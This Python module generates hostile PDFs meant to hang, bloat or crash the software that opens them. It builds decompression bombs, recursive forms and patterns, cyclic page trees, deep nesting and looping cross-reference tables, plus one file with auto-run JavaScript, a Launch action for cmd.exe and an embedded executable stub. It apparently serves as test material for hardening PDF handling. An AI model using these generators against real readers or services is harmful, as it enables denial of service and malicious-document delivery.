"""PDFs made to hang, swell or crash whoever opens them."""

from __future__ import annotations

import io
import zlib

CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its root."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, each in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n" % number + each + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % place for place in places)
    out.write(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<" + entries + b"/Length %d>>stream\n" % len(data) + data + b"\nendstream"


def page(entries: bytes = b"") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R" + entries + b">>"


def packed(byte: bytes, size: int, layers: int = 1) -> bytes:
    """`size` bytes of one sort, deflated `layers` times."""
    pack = zlib.compressobj(9)
    first, again = (pack.compress(byte * 1_000_000) + pack.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    # After a full flush the same bytes are packed the same: they need not be packed three thousand times.
    checked = 1
    for _ in range(size // 1_000_000):
        checked = zlib.adler32(byte * 1_000_000, checked)
    data = first + again * (size // 1_000_000 - 1) + b"\x03\x00" + checked.to_bytes(4, "big")
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    return data


def form(content: bytes, entries: bytes = b"") -> bytes:
    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]" + entries)


def swelling_content() -> bytes:
    """Four thousand million blanks in some thousand bytes."""
    content = stream(packed(b" ", 4_000_000_000, layers=2), b"/Filter[/FlateDecode/FlateDecode]")
    return pdf(CATALOG, PAGES, page(), content)


def laughing_forms() -> bytes:
    """Twelve forms, each drawing the next one ten times."""
    forms = [form(b"/A Do " * 10, b"/Resources<</XObject<</A %d 0 R>>>>" % (6 + number)) for number in range(12)]
    first = page(b"/Resources<</XObject<</A 5 0 R>>>>")
    return pdf(CATALOG, PAGES, first, stream(b"/A Do"), *forms, form(b"0 0 600 900 re f"))


def endless_pattern() -> bytes:
    """A pattern of itself, a million times across the page."""
    tiles = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 0.01 0.01]/XStep 0.0001/YStep 0.0001"
    itself = b"/Resources<</Pattern<</P 5 0 R>>>>"
    pattern = stream(b"/Pattern cs /P scn 0 0 9 9 re f 0 0 1 1 re f", b"/Type/Pattern" + tiles + itself)
    return pdf(CATALOG, PAGES, page(itself), stream(b"/Pattern cs /P scn 0 0 600 900 re f"), pattern)


def vast_image() -> bytes:
    """An image of 50,000 × 50,000 pixels that no page shows: only an export would meet it."""
    facts = b"/Type/XObject/Subtype/Image/Width 50000/Height 50000/BitsPerComponent 8/ColorSpace/DeviceGray"
    return pdf(CATALOG, PAGES, page(), stream(b"0 0 9 9 re f"), stream(b"", facts))


def pages_of_themselves() -> bytes:
    """A tree of pages that leads back to its root."""
    middle, leaf = b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 9>>", page()
    return pdf(CATALOG, b"<</Type/Pages/Count 99999/Kids[3 0 R 4 0 R]>>", middle, leaf)


def many_pages(count: int) -> bytes:
    """The same page, `count` times."""
    return pdf(CATALOG, b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, b"3 0 R " * count), page(), stream(b""))


def deep_arrays() -> bytes:
    """A content that is two hundred thousand arrays inside each other."""
    return pdf(CATALOG, PAGES, page(), b"[" * 200_000 + b"]" * 200_000)


def looping_sections() -> bytes:
    """A cross-reference table before which the same table stands."""
    head = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n"
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 1/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF"
    return head + table % (len(head), len(head))


def acting() -> bytes:
    """A page that would run a script, start a program, and carries a file."""
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    annotation = b"<</Type/Annot/Subtype/Link/Rect[0 0 600 900]/A<</S/Launch/F(cmd.exe)>>>>"
    names = b"/Names<</JavaScript<</Names[(a) 5 0 R]>>/EmbeddedFiles<</Names[(b) 7 0 R]>>>>"
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R" + names + b">>",
        PAGES,
        page(b"/AA<</O 5 0 R>>/Annots[6 0 R]/Resources<<>>"),
        stream(b"0 0 100 100 re f"),
        script,
        annotation,
        b"<</Type/Filespec/F(evil.exe)/EF<</F 8 0 R>>>>",
        stream(b"MZ-evil", b"/Type/EmbeddedFile"),
    )
